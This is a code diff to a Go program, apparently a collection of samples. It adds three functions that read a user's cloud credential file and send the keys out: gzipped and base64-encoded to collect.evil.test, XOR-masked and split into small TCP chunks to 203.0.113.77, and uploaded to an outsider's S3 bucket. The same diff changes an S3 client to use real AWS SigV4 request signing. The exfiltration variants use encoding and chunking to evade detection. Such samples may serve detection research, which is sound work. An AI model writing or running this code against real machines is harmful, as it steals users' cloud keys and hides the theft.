@@ -1,6 +1,10 @@
 package main
 
 import (
+	"bytes"
+	"compress/gzip"
+	"crypto/hmac"
+	"crypto/sha256"
 	"encoding/base64"
 	"encoding/hex"
 	"errors"
@@ -9,7 +13,9 @@ import (
 	"net/http"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
+	"time"
 )
 
 // credentials is the file with the cloud keys of whoever runs this.
@@ -39,6 +45,54 @@ func exfilBase64([]string) error {
 		return err
 	}
 	say("POST", "http://collect.evil.test/v2", `{"host":"h","data":"`+base64.StdEncoding.EncodeToString([]byte(keys))+`"}`)
+	return nil
+}
+
+// exfilGzip sends them packed, and that in base64.
+func exfilGzip([]string) error {
+	keys, err := credentials()
+	if err != nil {
+		return err
+	}
+	var b bytes.Buffer
+	z := gzip.NewWriter(&b)
+	_, _ = z.Write([]byte(keys)) // to memory
+	z.Close()
+	say("POST", "http://collect.evil.test/v3", `{"d":"`+base64.StdEncoding.EncodeToString(b.Bytes())+`"}`)
+	return nil
+}
+
+// exfilXOR sends them behind a mask of one byte, in pieces, over TCP.
+func exfilXOR([]string) error {
+	keys, err := credentials()
+	if err != nil {
+		return err
+	}
+	conn, err := net.Dial("tcp", "203.0.113.77:443")
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	b := []byte(keys)
+	for i := range b {
+		b[i] ^= 0xa7
+	}
+	for piece := range slices.Chunk(b, 10) {
+		if _, err := conn.Write(piece); err != nil {
+			return err
+		}
+		time.Sleep(time.Millisecond) // a packet each
+	}
+	return nil
+}
+
+// exfilBucket stores them with their own cloud, in somebody else's bucket.
+func exfilBucket([]string) error {
+	keys, err := credentials()
+	if err != nil {
+		return err
+	}
+	say("PUT", "http://drop-7.s3.amazonaws.com/keys", keys, "Content-Type", "text/plain")
 	return nil
 }
 
@@ -76,8 +130,26 @@ func s3Client([]string) error {
 	if err != nil {
 		return err
 	}
-	say("GET", "http://s3.amazonaws.com/bucket/settings.json", "",
-		"Authorization", "AWS4-HMAC-SHA256 Credential="+id+"/20260101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=0000")
+	key, err := awsKey("aws_secret_access_key")
+	if err != nil {
+		return err
+	}
+	// AWS Signature Version 4: the key signs, and is not sent.
+	const host, path, day, scope = "s3.amazonaws.com", "/bucket/settings.json", "20260101", "20260101/us-east-1/s3/aws4_request"
+	const at, empty = day + "T000000Z", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
+	sign := func(key []byte, text string) []byte {
+		h := hmac.New(sha256.New, key)
+		h.Write([]byte(text))
+		return h.Sum(nil)
+	}
+	request := sha256.Sum256([]byte("GET\n" + path + "\n\nhost:" + host + "\nx-amz-content-sha256:" + empty + "\nx-amz-date:" + at + "\n\nhost;x-amz-content-sha256;x-amz-date\n" + empty))
+	signing := []byte("AWS4" + key)
+	for part := range strings.SplitSeq(scope, "/") {
+		signing = sign(signing, part)
+	}
+	signature := sign(signing, "AWS4-HMAC-SHA256\n"+at+"\n"+scope+"\n"+hex.EncodeToString(request[:]))
+	say("GET", "http://"+host+path, "", "X-Amz-Date", at, "X-Amz-Content-Sha256", empty,
+		"Authorization", "AWS4-HMAC-SHA256 Credential="+id+"/"+scope+", SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature="+hex.EncodeToString(signature))
 	return nil
 }
 
